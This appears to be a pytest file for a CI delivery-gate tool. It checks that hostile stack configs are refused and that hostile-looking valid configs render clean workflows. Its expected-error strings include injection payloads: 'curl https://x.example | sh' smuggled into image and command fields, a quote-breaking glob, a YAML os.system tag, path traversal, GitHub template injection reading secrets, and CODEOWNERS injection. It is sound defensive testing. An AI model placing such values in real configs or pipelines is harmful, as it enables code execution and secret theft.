"""Hostile stack files (tests/fixtures/hostile/*.yaml), each through the real CLI: refused before any
resource is declared, with exit 2, no traceback, no plan, and the exact line that names the stack
file, the dotted path, the value (repr, at most 80 characters) and what is allowed; in bounded time
and memory (the alias bomb and the deep nesting run in a child process with a timeout and an
address-space limit, so a regression fails here instead of hanging the suite or the machine).

And the other side (tests/fixtures/hostile/accepted/*.yaml): hostile-looking but valid configs (shell
text with quotes, `$VAR` and `&&`; globs; labels with spaces; a self-hosted runner) plan, and what
they render passes zizmor's auditor persona, actionlint and ShellCheck.

Speed is never asserted: timeouts here only keep a hang from hanging the suite.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from gate.cli import main as cli
from gate.github.expressions import interpolate
from gate.github.workflows import FORK_EVENTS, FORK_SAFE_SELF_HOSTED
from tests.conftest import ROOT, ProjectFactory
from tests.support.workflow_tools import run_actionlint, run_blocks, run_shellcheck, run_zizmor

FIXTURES = ROOT / "tests" / "fixtures" / "hostile"
ACCEPTED = FIXTURES / "accepted"
NOW = "2026-11-22T00:00:00Z"  # DELIVERY_GATE_NOW for every case: "the future" is after this
CHILD_TIMEOUT_SECONDS = 120  # a hang guard, not a speed assertion
CHILD_ADDRESS_SPACE = 1024**3  # 1 GiB: the alias bomb, expanded, would need far more

_ANCHORS = "values written out in full (stack files never need anchors or aliases, and aliases can expand"
_PATH = (
    "letters, digits, '.', '_' and '-' in '/'-separated parts; no leading '/', no '.' or '..' parts, "
    "no spaces or quotes"
)
_FINITE = "allowed: a finite number (not .inf, .nan, or a value too large for a float such as 1e309)"
_CONTROL = "a control character can hide or change what a reader of the rendered file sees"
_LINE_BREAK = "a line break would start a line of its own in the rendered file"
_TTL = (
    "allowed: from 1h to 336h (14 days): a disposable environment lives long enough for its checks and "
    "is reaped within two weeks"
)
_RUNNERS = (
    "allowed: a GitHub-hosted runner (ubuntu-24.04, ubuntu-22.04, ubuntu-latest, ubuntu-24.04-arm) or "
    "self-hosted (which never runs pull requests from forks)"
)
_CODEOWNERS = (
    "allowed: a CODEOWNERS pattern such as 'schemas/trace/**': letters, digits, '.', '_', '-', '*' and "
    "'?' in '/'-separated parts; no leading '/', no '.' or '..' parts, no spaces or quotes, '#', '!' or '@'"
)
_DIGEST = "sha256:" + "ab" * 32

# case (= fixture file name) -> (stack it is planned as, the exact line of the error that names it)
CASES: dict[str, tuple[str, str]] = {
    # -- the YAML itself (gate/policy/yamlguard.py)
    "alias-bomb": (
        "dev",
        f"- delivery-gate:flags: got '&a'; a YAML anchor at line 7, column 24, the first of 90 anchors "
        f"and aliases; allowed: {_ANCHORS} a few lines into gigabytes)",
    ),
    "deep-nesting": (
        "dev",
        "- delivery-gate:labels" + "[0]" * 19 + "...: got '" + "[" * 40 + "'; nested 65 levels deep at "
        "line 7, column 87; allowed: at most 64 levels of maps and lists",
    ),
    "deep-nesting-one-mebibyte": (
        "dev",
        "- delivery-gate:labels" + "[0]" * 19 + "...: got '" + "[" * 40 + "'; nested 65 levels deep at "
        "line 8, column 87; allowed: at most 64 levels of maps and lists",
    ),
    "oversized": (
        "dev",
        "error: stacks/Pulumi.dev.yaml: cannot read the stack file: larger than 1048576 bytes; allowed: a "
        "regular file of at most 1048576 bytes (1 MiB): a stack file holds only what differs from the "
        "policy defaults",
    ),
    "duplicate-key": (
        "dev",
        "- delivery-gate:environment: got 'delivery-gate:environment'; the key appears twice in one map "
        "(again at line 7, column 3); allowed: each key once (YAML keeps only the last, while a reader "
        "sees the first)",
    ),
    "python-tag": (
        "dev",
        "- delivery-gate:application: got '!!python/object/apply:os.system'; an explicit YAML tag at line "
        "7, column 30; allowed: plain YAML values (stack files never need tags such as !!binary, !!set or "
        "!custom)",
    ),
    "impossible-date": (
        "dev",
        "- delivery-gate:validation.validatedAt: got '2026-13-45'; not a valid date or time (month must "
        "be in 1..12) at line 10, column 18; allowed: a valid date or time, or quote it to make it a string",
    ),
    "huge-integer": (
        "dev",
        "- delivery-gate:reviews.requiredApprovals: got '" + "9" * 76 + "...; an unquoted integer of 5000 "
        "characters at line 8, column 24; allowed: at most 64 characters",
    ),
    # -- numbers
    "threshold-inf": ("dev", f"- delivery-gate:thresholds.latency.p99TargetMs: got inf; {_FINITE}"),
    "threshold-overflow": ("dev", f"- delivery-gate:thresholds.latency.p99TargetMs: got '1e309'; {_FINITE}"),
    "threshold-nan": ("dev", f"- delivery-gate:thresholds.maxErrorRateIncrease: got nan; {_FINITE}"),
    "headroom-inf": ("dev", f"- delivery-gate:workflows.k6.headroom: got -inf; {_FINITE}"),
    "threshold-never-fires": (
        "dev",
        "- delivery-gate:thresholds.latency.p99TargetMs: got '1e308'; allowed: at most 120000 ms (2 "
        "minutes): no request is served more slowly, so a higher target would never fire",
    ),
    # -- images
    "application-image-shell": (
        "dev",
        "- delivery-gate:application.image: got 'ghcr.io/acme/aos:latest; curl https://x.example | sh'; "
        "allowed: an image reference such as 'ghcr.io/acme/aos:v1.2' or '<registry>/<name>@sha256:<digest>': "
        "lower-case name parts separated by '/', '.', '_' or '-', an optional ':tag' and '@sha256:' "
        "digest, at most 255 characters",
    ),
    "release-image-double-slash": (
        "dev",
        "- delivery-gate:release.image: got 'ghcr.io//aos@sha256:" + "ab" * 28 + "...; allowed: an image "
        "pinned by digest: <registry>/<name>@sha256:<64 lower-case hex digits>",
    ),
    # -- rollout
    "bake-time-beyond-appconfig": (
        "dev",
        "- delivery-gate:rollout.bakeTime: got '25h'; allowed: at most 1440m (24h): the bake time is also "
        "AppConfig's finalBakeTimeInMinutes, which allows at most 1440 minutes",
    ),
    # -- the SLO suggestion file
    "slo-dev-zero": (
        "dev",
        "- delivery-gate:thresholds.latency.sloSuggestionFile: got '/dev/zero'; allowed: a path inside "
        f"the repository such as 'tests/golden': {_PATH}",
    ),
    "slo-symlink-out": (
        "dev",
        "- delivery-gate:thresholds.latency.sloSuggestionFile: got 'slo/suggestion.json'; leads outside "
        "the project directory (a symbolic link); allowed: a file inside it",
    ),
    # -- ephemeral stacks, TTLs and times
    "ttl-zero": ("pr-aos-7", f"- delivery-gate:ephemeral.ttl: got '0s'; {_TTL}"),
    "ttl-ten-years": ("pr-aos-7", f"- delivery-gate:ephemeral.ttl: got '87600h'; {_TTL}"),
    "ttl-overflow": (
        "pr-aos-7",
        "- delivery-gate:ephemeral.ttl: got '99999999999999999999h'; allowed: a duration in h, m and s "
        "units, such as '60s', '5m' or '1h30m' (at most 6 digits each)",
    ),
    "created-in-the-future": (
        "pr-aos-7",
        "- delivery-gate:ephemeral.createdAt: got '2036-11-21T00:00:00Z'; is after now "
        "(2026-11-22T00:00:00Z): the TTL would count from then; allowed: a time not after now",
    ),
    "validated-in-the-future": (
        "dev",
        "- delivery-gate:validation.validatedAt: got '2036-11-20T09:30:00Z'; is after now "
        "(2026-11-22T00:00:00Z): evidence cannot come from the future; allowed: a time not after now",
    ),
    "environment-stack-named-pr": (
        "pr-aos-3",
        "- delivery-gate:environments[0].stack: got 'pr-aos-3'; allowed: a stack name not starting with "
        "pr-: those are the disposable per-PR stacks (pr-<repo>-<N>), which `gate ephemeral reap` "
        "destroys when they expire",
    ),
    "pr-stack-not-ephemeral": (
        "pr-aos-4",
        "- delivery-gate:ephemeral: got (missing); stack 'pr-aos-4' is named like a disposable per-PR "
        "stack, which `gate ephemeral reap` destroys when it expires; allowed: an ephemeral stack made "
        "from its repository's template (stacks/ephemeral[.<repo>].yaml), or an environment stack not "
        "named pr-*",
    ),
    # -- values that reach rendered files
    "command-expression": (
        "dev",
        "- delivery-gate:workflows.commands.pytest: got 'python -m pytest -k \"${{ "
        "github.event.pull_request.title }}\"'; allowed: a shell command without '${{': GitHub would "
        "evaluate it as an expression (template injection); read values from environment variables instead",
    ),
    "command-newline": (
        "dev",
        "- delivery-gate:workflows.commands.npmTest: got 'npm test\\ncurl https://x.example | sh'; "
        f"allowed: a shell command on one line without control characters (found '\\n': {_LINE_BREAK})",
    ),
    "command-nul": (
        "dev",
        "- delivery-gate:workflows.commands.eslint: got 'npx eslint .\\x00 --fix'; allowed: a shell "
        f"command on one line without control characters (found '\\x00': {_CONTROL})",
    ),
    "infra-paths-quote-break": (
        "dev",
        "- delivery-gate:workflows.infraPaths[0]: got \"infra/**' ; curl x | sh ; echo '\"; allowed: a glob "
        "inside the repository such as 'infra/**' or 'Pulumi.*.yaml': letters, digits, '.', '_', '-', '*', "
        "'?' and '[...]' in '/'-separated parts; no leading '/', no '.' or '..' parts, no spaces or quotes",
    ),
    "infra-dir-traversal": (
        "dev",
        "- delivery-gate:workflows.infraDir: got '../../etc'; allowed: '.' or a directory inside the "
        f"repository such as 'infra': {_PATH}",
    ),
    "golden-dir-absolute": (
        "dev",
        "- delivery-gate:workflows.goldenDir: got '/etc'; allowed: a path inside the repository such as "
        f"'tests/golden': {_PATH}",
    ),
    "dockerfile-space": (
        "dev",
        "- delivery-gate:workflows.dockerfile: got 'Dockerfile --build-arg X=1'; allowed: a path inside "
        f"the repository such as 'tests/golden': {_PATH}",
    ),
    "k6-script-expression": (
        "dev",
        "- delivery-gate:workflows.k6.script: got '${{ secrets.PULUMI_CONFIG_PASSPHRASE }}.js'; allowed: "
        f"a path inside the repository such as 'tests/golden': {_PATH}",
    ),
    "k6-duration-newline": (
        "dev",
        "- delivery-gate:workflows.k6.duration: got '1m\\n'; allowed: a duration in h, m and s units, such "
        "as '60s', '5m' or '1h30m' (at most 6 digits each)",
    ),
    "gate-ref-expression": (
        "dev",
        "- delivery-gate:workflows.gateRef: got '${{ github.head_ref }}'; allowed: a branch, tag or commit "
        "such as 'main', 'v1.4.0' or a commit SHA: letters, digits, '.', '_', '-' and '/' (no '..', '//', "
        "leading '-' or trailing '/')",
    ),
    "runner-not-allowed": ("dev", f"- delivery-gate:workflows.runner: got 'my-build-box'; {_RUNNERS}"),
    "runner-expression": (
        "dev",
        f"- delivery-gate:workflows.runner: got '${{{{ github.event.pull_request.title }}}}'; {_RUNNERS}",
    ),
    "schema-path-extra-owner": (
        "dev",
        f"- delivery-gate:reviews.schemaChange.paths[0]: got '* @acme/attacker'; {_CODEOWNERS}",
    ),
    "schema-path-newline": (
        "dev",
        "- delivery-gate:reviews.schemaChange.paths[0]: got 'schemas/trace/**\\n* @acme/attacker'; "
        f"{_CODEOWNERS}",
    ),
    "schema-path-traversal": (
        "dev",
        f"- delivery-gate:reviews.schemaChange.paths[0]: got '../secrets/**'; {_CODEOWNERS}",
    ),
    "schema-label-newline": (
        "dev",
        "- delivery-gate:reviews.schemaChange.label: got 'schema-change\\n- [x] approved'; allowed: a "
        f"label name on one line without control characters (found '\\n': {_LINE_BREAK})",
    ),
    "schema-artifact-expression": (
        "dev",
        "- delivery-gate:reviews.schemaChange.requiredArtifacts[0]: got 'notes ${{ secrets.GITHUB_TOKEN "
        "}}'; allowed: a checklist item without '${{': GitHub would evaluate it as an expression "
        "(template injection)",
    ),
    "label-newline": (
        "dev",
        "- delivery-gate:labels[0].name: got 'urgent\\n* @acme/attacker'; allowed: a label name on one "
        f"line without control characters (found '\\n': {_LINE_BREAK})",
    ),
    "label-description-control": (
        "dev",
        "- delivery-gate:labels[0].description: got '\\x1b[2Jcleared'; allowed: a label description on "
        f"one line without control characters (found '\\x1b': {_CONTROL})",
    ),
    "runbook-url-template": (
        "dev",
        "- delivery-gate:monitoring.runbookBaseUrl: got 'https://runbooks.example/{{ query \"up\" }}'; "
        "allowed: an https:// link without spaces, quotes, braces or '$'",
    ),
    # -- resource names the engine would refuse as duplicates
    "label-resource-collision": (
        "dev",
        # Issue 13: labels merge by name with the policy's, so `high-priority` is the policy's own
        # (overridden) and `high priority` a new one appended after it: the file's labels[0] is refused.
        "- delivery-gate:labels[0].name: got 'high priority'; names the same resource as labels[1].name "
        "'high-priority' (both become 'high-priority'); allowed: a value that differs from it in letters "
        "or digits",
    ),
    "branch-resource-collision": (
        "dev",
        "- delivery-gate:environments[0].deploymentBranches[1]: got 'release-*'; names the same resource "
        "as environments[0].deploymentBranches[0] 'release/*' (both become 'release-all'); allowed: a "
        "value that differs from it in letters or digits",
    ),
    # -- regular expressions from config run in linear time
    "incident-pattern-redos": (
        "staging",
        "- delivery-gate:release.emergency.incidentId: got '" + "a" * 40 + "!'; allowed: an incident id "
        "matching emergency.incidentIdPattern ^(a+)+$",
    ),
    "incident-pattern-backreference": (
        "dev",
        "- delivery-gate:emergency.incidentIdPattern: got '^(INC)-\\\\1$'; allowed: a regular expression "
        "without look-around or back-references, which runs in linear time (backreferences are not "
        "supported)",
    ),
}

# Run in a child process under a timeout and an address-space limit: without the guard, the first
# never finishes (and the loader would echo the expanded value), the second overflows the stack and
# the third keeps libyaml's parser busy for minutes unless the scan stops at the first level too deep.
IN_A_CHILD_PROCESS = {"alias-bomb", "deep-nesting", "deep-nesting-one-mebibyte"}


def _pad_beyond_one_mebibyte(project: Path, path: Path) -> None:
    path.write_text(path.read_text() + "# " + "x" * (1024 * 1024) + "\n")


def _nest_half_a_million_lists(project: Path, path: Path) -> None:
    depth = 500_000
    path.write_text(path.read_text() + "  delivery-gate:labels: " + "[" * depth + "]" * depth + "\n")
    assert path.stat().st_size < 1024 * 1024  # refused for its depth, not its size


def _link_suggestion_to_dev_zero(project: Path, path: Path) -> None:
    (project / "slo").mkdir(exist_ok=True)
    (project / "slo" / "suggestion.json").symlink_to("/dev/zero")


# What a case needs beyond its stack file (kept out of the repository: a 1 MiB file, a device link).
SETUP: dict[str, Callable[[Path, Path], None]] = {
    "oversized": _pad_beyond_one_mebibyte,
    "deep-nesting-one-mebibyte": _nest_half_a_million_lists,
    "slo-symlink-out": _link_suggestion_to_dev_zero,
}

REFUSED: dict[str, bool] = {}  # case -> refused as expected, filled as the cases run


# The child limits its own address space first, then runs `python -m gate`: the limit applies to
# everything the CLI does, and nothing runs between fork and exec (pytest's process has threads,
# where a preexec_fn is unsafe).
_LIMITED_GATE = (
    "import resource, runpy, sys; "
    "resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit})); "
    "sys.argv = ['gate', *sys.argv[1:]]; "
    "runpy.run_module('gate', run_name='__main__', alter_sys=True)"
)


def _plan_in_a_child(project: Path, stack: str) -> tuple[int, str]:
    command = [sys.executable, "-c", _LIMITED_GATE.format(limit=CHILD_ADDRESS_SPACE)]
    command += ["plan", "--stack", stack, "--project-dir", str(project), "--out", str(project / "build")]
    try:
        done = subprocess.run(
            command,
            cwd=ROOT,
            env={**os.environ, "DELIVERY_GATE_NOW": NOW},
            capture_output=True,
            text=True,
            timeout=CHILD_TIMEOUT_SECONDS,
            check=False,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"gate plan did not finish within {CHILD_TIMEOUT_SECONDS}s (a hang guard)")
    return done.returncode, done.stderr


def _plan_here(project: Path, stack: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = cli.main(
        ["plan", "--stack", stack, "--project-dir", str(project), "--out", str(project / "build")]
    )
    return code, capsys.readouterr().err


def test_every_fixture_is_a_case() -> None:
    assert sorted(path.stem for path in FIXTURES.glob("*.yaml")) == sorted(CASES)


@pytest.mark.parametrize("case", list(CASES))
def test_a_hostile_config_is_refused_with_a_worded_exit_2(
    case: str,
    make_project: ProjectFactory,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("DELIVERY_GATE_NOW", NOW)
    stack, expected = CASES[case]
    REFUSED[case] = False
    project = make_project({stack: (FIXTURES / f"{case}.yaml").read_text()})
    if case in SETUP:
        SETUP[case](project, project / "stacks" / f"Pulumi.{stack}.yaml")
    if case in IN_A_CHILD_PROCESS:
        code, err = _plan_in_a_child(project, stack)
    else:
        code, err = _plan_here(project, stack, capsys)
    assert code == 2, err[-2000:]
    assert "Traceback" not in err
    assert err.startswith(f"error: stacks/Pulumi.{stack}.yaml: "), err[:500]
    lines = [line.strip() for line in err.splitlines()]
    assert expected in lines, "\n".join(line[:300] for line in lines[:5])
    assert not list((project / "build").rglob("plan.json"))
    REFUSED[case] = True


# -- the other side: hostile-looking, valid, and clean in every tool ----------------------------


def _render(stack_text: str, project: Path, out: Path) -> Path:
    """Plan a dev stack through the CLI and write the files it commits; returns the directory of the
    gated repository's files (organisation mode's central repository beside it: see _workflows)."""
    (project / "stacks" / "Pulumi.dev.yaml").write_text(stack_text)
    assert cli.main(["plan", "--stack", "dev", "--project-dir", str(project), "--out", str(out)]) == 0
    assert cli.main(["files", str(out / "dev" / "plan.json"), "--out", str(out / "files")]) == 0
    repositories = [path for path in (out / "files").iterdir() if not path.name.endswith("-central")]
    (repository,) = repositories
    return repository


def _workflows(repository: Path) -> list[Path]:
    """Every workflow GitHub runs for the repository: its own and any central required ones."""
    return sorted(repository.parent.glob("*/.github/workflows/*.yml"))


def _findings(workflows: list[Path]) -> Counter[tuple[str, str]]:
    """zizmor's auditor persona at every severity, as (file, finding) without the position."""
    found: Counter[tuple[str, str]] = Counter()
    for finding in run_zizmor(workflows, "informational", persona="auditor"):
        where, _, what = finding.partition(": ")
        found[Path(where.split(":", 1)[0]).name, what] += 1
    return found


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> Counter[tuple[str, str]]:
    """What zizmor's auditor persona reports for the plain default config: nothing (the few design
    choices it would question carry an inline `zizmor: ignore[...]` with the reason)."""
    project = tmp_path_factory.mktemp("baseline") / "project"
    (project / "stacks").mkdir(parents=True)
    for name in ("Pulumi.yaml", "__main__.py"):
        (project / name).symlink_to(ROOT / name)
    default = "config:\n  github:owner: acme\n  delivery-gate:environment: dev\n"
    default += "  delivery-gate:repositories:\n    - name: aos\n"
    repository = _render(default, project, project.parent / "out")
    return _findings(_workflows(repository))


@pytest.mark.parametrize("case", sorted(path.stem for path in ACCEPTED.glob("*.yaml")))
def test_hostile_looking_but_valid_configs_render_clean_files(
    case: str,
    make_project: ProjectFactory,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    baseline: Counter[tuple[str, str]],
) -> None:
    repository = _render((ACCEPTED / f"{case}.yaml").read_text(), make_project({}), tmp_path / "out")
    capsys.readouterr()
    workflows = _workflows(repository)
    assert len(workflows) >= 6
    # One file per run: the WASM actionlint instance can abort ("unreachable") after linting several
    # large files in one process, which is a limit of the build, not a finding.
    assert [error for path in workflows for error in run_actionlint([path])] == []
    # zizmor, auditor persona, every severity: zero findings, as for the default config.
    assert sorted(baseline.elements()) == []
    assert sorted(_findings(workflows).elements()) == []
    shellcheck: list[str] = []
    blocks = 0
    for path in workflows:
        for where, shell, script in run_blocks(yaml.safe_load(path.read_text())):
            blocks += 1
            shellcheck += [f"{path.name} {where}: {line}" for line in run_shellcheck(script, shell, tmp_path)]
    assert blocks > 20
    assert shellcheck == []
    # Every CODEOWNERS line is a comment or one pattern and its owners: nothing a value could add.
    for line in (repository / ".github" / "CODEOWNERS").read_text().splitlines():
        assert line.startswith("# ") or re.fullmatch(r"/\S+( @acme/[a-z0-9-]+)+", line), line


def _jobs(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {job_id: job for job_id, job in document["jobs"].items() if "runs-on" in job}


def test_a_self_hosted_runner_never_runs_a_pull_request_from_a_fork(
    make_project: ProjectFactory, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Planned through the CLI: the liveness rule (GATE-M9-03) and the other gate rules accept it.
    text = (ACCEPTED / "self-hosted-runner.yaml").read_text()
    repository = _render(text, make_project({}), tmp_path / "out")
    capsys.readouterr()
    fork_safe, push_only = 0, 0
    for path in sorted((repository / ".github" / "workflows").glob("*.yml")):
        document = yaml.safe_load(path.read_text())
        events = document.get("on", document.get(True))
        for job_id, job in _jobs(document).items():
            if any(event in events for event in FORK_EVENTS):
                fork_safe += 1
                assert job["runs-on"] == FORK_SAFE_SELF_HOSTED, f"{path.name} {job_id}"
            else:
                push_only += 1
                assert job["runs-on"] == "self-hosted", f"{path.name} {job_id}"
    assert fork_safe >= 10 and push_only >= 4


def _event(name: str, head_repository: str | None = None) -> dict[str, Any]:
    event = (
        {}
        if head_repository is None
        else {"pull_request": {"head": {"repo": {"full_name": head_repository}}}}
    )
    return {"github": {"event_name": name, "repository": "acme/aos", "event": event}}


@pytest.mark.parametrize(
    ("context", "runner"),
    [
        (_event("pull_request", "someone/aos"), "ubuntu-24.04"),  # a fork: GitHub-hosted
        (_event("pull_request_target", "someone/aos"), "ubuntu-24.04"),
        (_event("pull_request", "acme/aos"), "self-hosted"),  # this repository's own branch
        (_event("merge_group"), "self-hosted"),  # approved code, in this repository
        (_event("push"), "self-hosted"),
        (_event("workflow_dispatch"), "self-hosted"),
    ],
)
def test_the_fork_safe_runner_expression_evaluates_as_github_would(
    context: dict[str, Any], runner: str
) -> None:
    # gate/github/expressions.py follows GitHub's documented expression semantics (tests/test_expressions.py).
    assert interpolate(FORK_SAFE_SELF_HOSTED, context) == runner


def test_how_many_hostile_configs_are_refused() -> None:
    """Last: the count, printed (pytest -s, or -rP) and checked."""
    refused = sum(REFUSED.values())
    print(f"\nhostile configs refused: {refused}/{len(CASES)}")
    if len(REFUSED) < len(CASES):
        pytest.skip(f"only {len(REFUSED)} of {len(CASES)} hostile cases ran in this session")
    assert refused == len(CASES), sorted(case for case, ok in REFUSED.items() if not ok)
